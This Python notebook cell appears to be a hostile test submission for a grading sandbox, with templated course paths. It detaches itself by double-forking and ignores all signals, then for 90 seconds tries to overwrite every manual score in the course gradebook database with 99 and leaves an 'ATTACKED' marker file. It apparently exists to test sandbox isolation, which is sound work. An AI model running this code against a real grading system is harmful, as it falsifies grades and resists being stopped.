# %% first
import os
import signal
import sqlite3
import time

MARK = "@MARK@"
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    until = time.monotonic() + 90
    while time.monotonic() < until:
        try:
            open("@COURSE@/ATTACKED", "w").close()
            with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=0.1) as book:
                book.execute("update grade set manual_score = 99")
        except (sqlite3.Error, OSError):
            time.sleep(0.5)
    os._exit(0)
